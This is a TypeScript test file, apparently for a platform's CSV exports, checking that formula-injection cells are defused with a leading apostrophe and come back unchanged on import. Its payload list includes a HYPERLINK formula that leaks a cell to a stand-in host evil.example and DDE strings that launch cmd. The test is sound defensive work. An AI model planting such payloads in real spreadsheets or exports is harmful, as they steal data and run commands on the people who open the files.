import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { defuseCell, restoreCell } from "../../core/text/spreadsheet-cells.ts";
import { dashboardCsv } from "../insights/csv.ts";
import { parseCsv } from "./csv.ts";
import {
  bundleOf,
  clusterWithMember,
  createTestPlatform,
  importBundle,
  importCsv,
  type Person,
  platformAdmin,
  solutionRecord,
  type TestPlatform,
} from "./test/factories.ts";

/**
 * CSV (formula) injection: a cell a spreadsheet would run as a formula — one starting with `=`,
 * `+`, `-`, `@`, a tab or a carriage return — is written with a leading apostrophe in every CSV
 * the platform produces (the solutions export of `GET /api/v1/export?format=csv` and
 * `csp export --format csv`, which share `exportText`; the insights dashboards' data.csv), and
 * the solutions CSV still round-trips: importing the export gives the original text back.
 */
const FORMULA = /^[=+\-@\t\r]/;
const payloads = [
  `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=1+1",
  "'=already quoted by its author",
];

describe("defusing formula cells", () => {
  it("puts an apostrophe before each formula start, and only there", () => {
    expect(payloads.map(defuseCell)).toEqual(payloads.map((payload) => `'${payload}`));
    for (const start of ["=", "+", "-", "@", "\t", "\r"]) {
      expect(defuseCell(`${start}1`)).toBe(`'${start}1`);
    }
    for (const plain of ["Leak sensors", "1-2", "a=b", "", "'quoted", "e-mail@x", " =1"]) {
      expect(defuseCell(plain)).toBe(plain);
    }
  });

  it("is undone exactly on reading: restore(defuse(text)) is the text, for any text", () => {
    const text = fc.oneof(
      fc.string({ unit: "grapheme" }),
      fc
        .tuple(
          fc.stringMatching(/^'{0,3}$/),
          fc.constantFrom("=", "+", "-", "@", "\t", "\r"),
          fc.string(),
        )
        .map((parts) => parts.join("")),
    );
    fc.assert(
      fc.property(text, (value) => {
        const written = defuseCell(value);
        expect(FORMULA.test(written)).toBe(false);
        expect(restoreCell(written)).toBe(value);
      }),
      { numRuns: 500 },
    );
  });

  it("the insights dashboards' CSV defuses labels, units and names, tab and CR included", () => {
    const text = dashboardCsv({
      challenges: { byStatus: [], bySector: [] },
      pilots: null,
      proposals: 0,
      consortia: 0,
      events: [],
      impact: [
        { sector: "water", year: 2026, kind: "custom", label: "=1+1", unit: "\t=2", value: -3 },
        { sector: "water", year: 2026, kind: "custom", label: "\r=3", unit: "@x", value: 1 },
      ],
      cities: [
        {
          cityId: "c",
          name: "+cmd|' /C calc'!A0",
          country: "-DK",
          challenges: 1,
          verifiedReferences: 0,
        },
      ],
    } as unknown as Parameters<typeof dashboardCsv>[0]);
    const cells = parseCsv(text).flatMap((record) => record.fields);
    expect(cells.filter((cell) => FORMULA.test(cell))).toEqual(["-3"]);
    expect(cells).toEqual(
      expect.arrayContaining(["'=1+1", "'\t=2", "'\r=3", "'@x", "'+cmd|' /C calc'!A0", "'-DK"]),
    );
  });
});

describe("the solutions CSV export: formulas defused, the round trip exact", () => {
  let platform: TestPlatform;
  let admin: Person;
  const hostile = [
    solutionRecord("=formula-ref", "member", {
      title: payloads[0],
      summary: payloads[1],
      description: payloads[2],
    }),
    solutionRecord("@at-ref", "member", {
      title: payloads[3],
      summary: payloads[5],
      description: "\t=tab then formula\r\n\r=CR then formula",
      capabilities: ["water.leak-detection"],
    }),
    solutionRecord("plain-ref", "member", { title: "-20% leaks in a year" }),
  ];

  beforeAll(async () => {
    platform = await createTestPlatform();
    admin = await platformAdmin(platform);
    const { member } = await clusterWithMember(platform);
    const imported = await importBundle(
      admin.client,
      bundleOf({
        solutions: hostile.map((record) => ({ ...record, organisation: member.id })),
      }),
    );
    expect(imported.status, JSON.stringify(imported.body)).toBe(200);
  });
  afterAll(() => platform.close());

  it("writes no cell that a spreadsheet would run, and each hostile text behind an apostrophe", async () => {
    const response = await platform.client().get<string>("/api/v1/export?format=csv");
    expect(response.status).toBe(200);
    expect(response.headers["content-type"]).toContain("text/csv");
    const [header, ...rows] = parseCsv(response.raw.body).map((record) => record.fields);
    expect(header?.[2]).toBe("title");
    const cells = rows.flat();
    expect(cells.filter((cell) => FORMULA.test(cell))).toEqual([]);
    const titles = rows.map((row) => row[2]);
    expect(titles).toEqual(
      expect.arrayContaining([`'${payloads[0]}`, `'${payloads[3]}`, "'-20% leaks in a year"]),
    );
    expect(cells).toEqual(
      expect.arrayContaining([
        "'=formula-ref",
        "'@at-ref",
        `'${payloads[1]}`,
        `'${payloads[2]}`,
        `'${payloads[5]}`,
      ]),
    );
  });

  it("imports back unchanged and exports the same bytes: the apostrophes are dropped on import", async () => {
    const csv = (await platform.client().get("/api/v1/export?format=csv")).raw.body;
    const bundleBefore = (await platform.client().get("/api/v1/export")).raw.body;
    const again = await importCsv(admin.client, csv);
    expect(again.status, JSON.stringify(again.body)).toBe(200);
    // Nothing changed: had an apostrophe stayed, the titles would have been updated.
    expect(again.body.solutions).toMatchObject({ created: 0, updated: 0 });
    expect((await platform.client().get("/api/v1/export?format=csv")).raw.body).toBe(csv);
    expect((await platform.client().get("/api/v1/export")).raw.body).toBe(bundleBefore);
    // The stored texts are the hostile ones, as written.
    const bundle = JSON.parse(bundleBefore) as {
      solutions: Array<{ ref: string; title: string; summary: string; description: string }>;
    };
    const byRef = new Map(bundle.solutions.map((solution) => [solution.ref, solution]));
    expect(byRef.get("=formula-ref")).toMatchObject({
      title: payloads[0],
      summary: payloads[1],
      description: payloads[2],
    });
    expect(byRef.get("@at-ref")?.summary).toBe(payloads[5]);
  });
});
